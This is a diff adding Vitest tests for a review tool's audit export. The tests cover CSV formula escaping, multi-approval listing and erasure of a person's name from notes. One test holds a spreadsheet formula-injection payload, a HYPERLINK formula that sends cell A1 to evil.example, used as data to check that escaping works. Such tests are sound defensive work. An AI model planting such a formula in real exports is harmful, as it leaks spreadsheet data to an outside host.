@@ -5,7 +5,7 @@ import { resolve } from 'node:path';
 import { PassThrough } from 'node:stream';
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createDatabase, type Database } from '@framedesk/db';
+import { createDatabase, type Database, type ReviewRegion } from '@framedesk/db';
 import { newId } from '@framedesk/domain';
 import { exportAudit, REJECT_REASONS } from '@framedesk/review';
 import { createTestDatabase, type TestDatabase } from '@framedesk/testing';
@@ -201,5 +201,139 @@ describe('audit export', () => {
     const change = rows.find((r) => r['kind'] === 'policy');
     expect(change).toMatchObject({ channel: 'sport', who: 'cli:auditor', action: 'policy_set', from: null });
     expect(JSON.parse(String(change?.['to']))).toEqual(policy);
+  });
+});
+
+describe('audit export is safe to open (issue 43, point 14)', () => {
+  let agentId: string;
+  let channelId: string;
+  let rita: string;
+  let ada: string;
+
+  beforeAll(async () => {
+    expect((await cli(['channel', 'create', 'safe'])).code).toBe(0);
+    expect((await cli(['agent', 'create', 'safebot', '--channel', 'safe'])).code).toBe(0);
+    agentId = (await db.repos.agents.findBySlug('safebot'))!.id;
+    channelId = (await db.repos.channels.findBySlug('safe'))!.id;
+    rita = (await db.repos.reviewers.findByEmail('rita@example.com'))!.id;
+    ada = (await db.repos.reviewers.findByEmail('ada@example.com'))!.id;
+  });
+
+  /** A frame of safebot waiting for review, needing `approvals` reviewers' promotes. */
+  async function waiting(approvals = 1): Promise<string> {
+    const id = newId('submission');
+    await db.repos.submissions.create(
+      {
+        id,
+        status: 'received',
+        mediaType: 'image',
+        agentId,
+        channelId,
+        date: '20261122',
+        metadata: { title: 'A frame' },
+        visibility: 'promotion_eligible',
+      },
+      { type: 'agent', id: agentId },
+    );
+    expect((await db.transition({ id, to: 'media_processing', actor: { type: 'system' } })).ok).toBe(true);
+    const patch = { approvalsRequired: approvals };
+    expect((await db.transition({ id, to: 'needs_review', actor: { type: 'system' }, patch })).ok).toBe(true);
+    return id;
+  }
+
+  const reject = (id: string, reason: string, note: string, regions: ReviewRegion[] = []) =>
+    db.transition({
+      id,
+      to: 'rejected',
+      actor: { type: 'reviewer', id: rita },
+      reason,
+      onlyFrom: ['needs_review'],
+      data: { note, ...(regions.length > 0 ? { regions } : {}) },
+      patch: {
+        reviewDecision: 'rejected',
+        reviewReason: reason,
+        reviewerId: rita,
+        reviewedAt: new Date(),
+        reviewNote: note,
+        ...(regions.length > 0 ? { reviewRegions: regions } : {}),
+      },
+    });
+
+  const exported = async (format: 'csv' | 'jsonl') => {
+    const res = await cli(['audit', 'export', '--channel', 'safe', '--format', format]);
+    expect(res.code, res.err.join('\n')).toBe(0);
+    return format === 'csv'
+      ? (parse(res.out.join('\n'), { columns: true }) as Record<string, string>[])
+      : res.out.map((l) => JSON.parse(l) as Record<string, string | null>);
+  };
+
+  it('escapes cells that begin with = + - @ in CSV (escape_formulas); JSON lines keep them as written', async () => {
+    const id = await waiting();
+    const note = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
+    expect((await reject(id, '@SUM(A1:A9)', note)).ok).toBe(true);
+    const second = await waiting();
+    expect((await reject(second, '+1', '-2+3')).ok).toBe(true);
+    const csv = (await exported('csv')).filter((r) => r['to'] === 'rejected');
+    expect(csv.map((r) => [r['reason'], r['note']])).toEqual([
+      [`'@SUM(A1:A9)`, `'${note}`],
+      [`'+1`, `'-2+3`],
+    ]);
+    const jsonl = (await exported('jsonl')).filter((r) => r['to'] === 'rejected');
+    expect(jsonl.map((r) => [r['reason'], r['note']])).toEqual([
+      ['@SUM(A1:A9)', note],
+      ['+1', '-2+3'],
+    ]);
+  });
+
+  it('lists the first approval of a two-approval frame: who, when, 1 of 2', async () => {
+    const id = await waiting(2);
+    expect(await db.repos.policies.approve(id, rita)).toEqual({ approvals: 1, required: 2 });
+    const promoted = await db.transition({
+      id,
+      to: 'promoted',
+      actor: { type: 'reviewer', id: ada },
+      onlyFrom: ['needs_review'],
+      patch: { reviewDecision: 'promoted', reviewerId: ada, reviewedAt: new Date() },
+    });
+    expect(promoted.ok).toBe(true);
+    const [event] = await database.query<{ created_at: Date }>(
+      "SELECT created_at FROM submission_events WHERE submission_id = $1 AND type = 'approval'",
+      [id],
+    );
+    const rows = (await exported('csv')).filter((r) => r['subject'] === id && r['who'] !== 'agent:safebot');
+    expect(rows.map((r) => [r['kind'], r['who'], r['at'], r['from'], r['to'], r['reason']])).toEqual([
+      ['transition', 'system', expect.any(String), 'received', 'media_processing', ''],
+      ['transition', 'system', expect.any(String), 'media_processing', 'needs_review', ''],
+      ['approval', 'rita@example.com', event!.created_at.toISOString(), '', '', '1 of 2'],
+      ['transition', 'ada@example.com', expect.any(String), 'needs_review', 'promoted', ''],
+    ]);
+  });
+
+  it('media erase blanks the decision note, region labels and internal notes, in the rows and the export', async () => {
+    const id = await waiting();
+    const regions = [{ x: 0.1, y: 0.2, width: 0.3, height: 0.4, label: 'Jane Doe’s face' }];
+    expect((await reject(id, 'Low quality', 'Jane Doe is in this frame', regions)).ok).toBe(true);
+    await db.repos.feedback.addNote({ submissionId: id, reviewerId: rita, body: 'Jane Doe asked us to remove it' });
+
+    const erased = await cli(['media', 'erase', '--submission', id, '--json']);
+    expect(erased.code, erased.err.join('\n')).toBe(0);
+
+    const [row] = await database.query<{ review_note: string | null; review_regions: unknown }>(
+      'SELECT review_note, review_regions FROM submissions WHERE id = $1',
+      [id],
+    );
+    expect(row).toEqual({ review_note: null, review_regions: [{ ...regions[0], label: '' }] });
+    const events = await database.query<{ data: unknown }>(
+      "SELECT data FROM submission_events WHERE submission_id = $1 AND to_status = 'rejected' AND type = 'transition'",
+      [id],
+    );
+    expect(events).toEqual([{ data: { regions: [{ ...regions[0], label: '' }] } }]);
+    const notes = await database.query<{ body: string }>('SELECT body FROM review_notes WHERE submission_id = $1', [
+      id,
+    ]);
+    expect(notes).toEqual([{ body: '' }]);
+    const rows = (await exported('jsonl')).filter((r) => r['subject'] === id);
+    expect(JSON.stringify(rows)).not.toContain('Jane');
+    expect(rows.find((r) => r['to'] === 'rejected')).toMatchObject({ reason: 'Low quality', note: null });
   });
 });
